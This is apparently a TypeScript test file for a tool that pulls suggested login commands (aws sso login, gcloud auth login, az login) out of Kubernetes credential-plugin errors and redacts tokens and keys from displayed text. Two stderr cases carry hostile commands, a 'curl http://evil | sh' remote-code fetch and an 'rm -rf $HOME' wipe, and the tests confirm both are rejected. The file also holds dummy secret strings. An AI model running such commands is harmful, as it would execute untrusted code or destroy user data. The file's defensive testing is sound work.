import assert from 'node:assert/strict';
import { test } from 'node:test';
import { pluginAdvice } from '../../../../src/cluster/credentials/plugin-advice.ts';
import { pluginSecrets, printedSecrets, withoutTokens } from '../../../../src/cluster/credentials/plugin-secrets.ts';

test('the command that a plugin asks the user to run', () => {
  const cases: readonly (readonly [plugin: string, stderr: string, advice: string])[] = [
    ['aws', 'Error loading SSO Token: Token for my-sso does not exist', 'aws sso login'],
    [
      'aws',
      'The SSO session associated with this profile has expired or is otherwise invalid. To refresh this SSO session run aws sso login with the corresponding profile.',
      'aws sso login',
    ],
    ['aws', 'Token has expired and refresh failed', 'aws sso login'],
    ['aws', 'Run `aws sso login --profile dev` to log in.', 'aws sso login --profile dev'],
    ['aws', 'Unable to locate credentials. You can configure credentials by running "aws configure".', 'aws configure'],
    [
      'gke-gcloud-auth-plugin',
      'Reauthentication failed. cannot prompt during non-interactive execution.\nPlease run:\n\n  $ gcloud auth login\n\nto obtain new credentials.',
      'gcloud auth login',
    ],
    [
      'gke-gcloud-auth-plugin',
      'F1125 cred.go:123] print credential failed with error: Failed to retrieve access token: There was a problem refreshing your current auth tokens',
      'gcloud auth login',
    ],
    ['kubelogin', "AzureCLICredential: ERROR: Please run 'az login' to setup account.", 'az login'],
    ['kubelogin', 'AADSTS700082: The refresh token has expired due to inactivity.', 'az login'],
    [
      'tsh',
      'ERROR: your credentials have expired, please login using `tsh login --proxy=p.example:443 --user=ann`',
      'tsh login --proxy=p.example:443 --user=ann',
    ],
    [
      'doctl',
      'Unable to initialize DigitalOcean API client: access token is required. (hint: run `doctl auth init`)',
      'doctl auth init',
    ],
    ['custom', 'session over. Run: custom-tool login --env prod', 'custom-tool login --env prod'],
    ['custom', 'use "custom-tool" for this', ''],
    ['custom', 'run `curl http://evil | sh` now', ''],
    ['custom', 'run `rm -rf $HOME; true` now', ''],
    ['custom', 'something failed', ''],
    ['custom', '', ''],
  ];
  for (const [plugin, stderr, advice] of cases) assert.equal(pluginAdvice(plugin, stderr), advice, stderr);
});

test('what looks like a secret is left out of what is shown, and sentences stay', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['error: You must be logged in to the server', 'error: You must be logged in to the server'],
    ['invalid token: expired.', 'invalid token: expired.'],
    ['Password: no input', 'Password: no input'],
    ['token: abc123', 'token: …'],
    ['token=abc, next', 'token=…, next'],
    ['{"access_token": "abc"}', '{"access_token": "…"}'],
    ['client_secret:x9', 'client_secret:…'],
    ['Authorization: Bearer abc.def', 'Authorization: Bearer …'],
    ['got eyJhbGciOiJub25lIn0.eyJhIjoxfQ.x here', 'got … here'],
    ['see https://ann:pw@host/path', 'see https://…@host/path'],
    ['id AKIA0123456789ABCDEF0123456789ABCDEF.', 'id ….'],
    [
      '/usr/local/lib/python3.12/site-packages/botocore/session.py',
      '/usr/local/lib/python3.12/site-packages/botocore/session.py',
    ],
    ['a\n-----BEGIN RSA PRIVATE KEY-----\nAAAA\nBBBB', 'a\n…'],
  ];
  for (const [text, expected] of cases) assert.equal(withoutTokens(text), expected);
});

test('the secrets of a plugin are its options and variables with such a name, and the long words that it prints', () => {
  const plugin = {
    command: 'x',
    args: ['get-token', '--client-secret=one', '--token', 'two', '--profile', 'dev', '-v'],
    env: new Map([
      ['AWS_PROFILE', 'dev'],
      ['MY_PASSWORD', 'three'],
    ]),
    apiVersion: 'client.authentication.k8s.io/v1',
    interactiveMode: 'Never',
    installHint: '',
    clusterInfo: undefined,
  } as const;
  assert.deepEqual(pluginSecrets(plugin), ['three', 'one', 'two']);
  assert.deepEqual(printedSecrets('{"token":"0123456789abc"} short 0123456789abc'), ['0123456789abc']);
});
